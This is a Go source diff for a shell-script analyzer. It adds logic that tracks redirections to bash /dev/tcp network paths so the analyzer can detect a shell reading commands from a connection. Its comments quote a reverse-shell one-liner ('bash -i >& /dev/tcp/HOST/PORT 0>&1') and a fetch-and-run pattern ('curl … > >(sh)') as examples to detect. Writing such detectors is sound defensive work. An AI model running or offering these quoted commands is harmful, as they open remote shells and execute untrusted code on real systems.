@@ -1106,6 +1106,7 @@ func (a *analyzer) substs(n syntax.Node, sc *scope) {
 func (a *analyzer) redirects(s *syntax.Stmt, sc *scope) (effects []Effect, stdin *string, stdinDyn bool, stdinSrc string) {
 	var in stageOut
 	var out *scope // what >(…) reads: the statement's output
+	var socks map[string]string
 	for _, r := range s.Redirs {
 		if ps := procSubst(r.Word); ps != nil && ps.Op == syntax.CmdOut && isStdout(r) {
 			// curl … > >(sh): the commands inside read what it prints.
@@ -1146,8 +1147,80 @@ func (a *analyzer) redirects(s *syntax.Stmt, sc *scope) (effects []Effect, stdin
 				in = o // sh <&3 after exec 3<<<TEXT (ownfiles.go)
 			}
 		}
+		socks = a.sockFds(r, socks)
+	}
+	if src := socks["0"]; src != "" && in.src == "" {
+		// bash -i >& /dev/tcp/HOST/PORT 0>&1: what it reads is the network.
+		in = stageOut{dyn: true, src: src}
 	}
 	return effects, in.text, in.dyn, in.src
+}
+
+// maxSockFds bounds the descriptors sockFds follows in one statement.
+const maxSockFds = 16
+
+// sockFds follows which of a statement's descriptors its redirections
+// connect to bash's network paths (/dev/tcp/HOST/PORT), through
+// duplications (0>&1, <&5), so that a shell reading its commands from a
+// connection is known for one: socks maps a descriptor to the path.
+func (a *analyzer) sockFds(r *syntax.Redirect, socks map[string]string) map[string]string {
+	n := ""
+	if r.N != nil {
+		n = r.N.Value
+	}
+	set := func(fd, v string) {
+		if v == "" {
+			delete(socks, fd)
+			return
+		}
+		if socks == nil {
+			socks = map[string]string{}
+		}
+		if _, ok := socks[fd]; ok || len(socks) < maxSockFds {
+			socks[fd] = v
+		}
+	}
+	sock := ""
+	if r.Word != nil && len(r.Word.Parts) > 0 && isLitSocket(r.Word.Parts[0]) {
+		sock = a.print(r.Word)
+	}
+	def := func(d string) string {
+		if n != "" {
+			return n
+		}
+		return d
+	}
+	switch r.Op {
+	case syntax.RdrIn, syntax.RdrInOut:
+		set(def("0"), sock)
+	case syntax.RdrOut, syntax.RdrClob, syntax.AppOut:
+		set(def("1"), sock)
+	case syntax.RdrAll, syntax.RdrAllClob, syntax.AppAll:
+		set("1", sock)
+		set("2", sock)
+	case syntax.DplIn, syntax.DplOut:
+		w := r.Word.Lit()
+		if w != "" && strings.Trim(w, "0123456789") == "" {
+			d := "0"
+			if r.Op == syntax.DplOut {
+				d = "1"
+			}
+			set(def(d), socks[w]) // N>&M: N is what M is
+			if r.Op == syntax.DplIn && socks[w] == "" {
+				if o, ok := a.own.fds[w]; ok && o.src != "" && isSocket(o.src) {
+					set(def(d), o.src) // exec 5<>/dev/tcp/…; sh <&5
+				}
+			}
+			return socks
+		}
+		if n == "" && r.Op == syntax.DplOut {
+			set("1", sock) // >&FILE is &>FILE
+			set("2", sock)
+			return socks
+		}
+		set(def("1"), sock)
+	}
+	return socks
 }
 
 // isStdout reports whether a redirection sends its command's standard
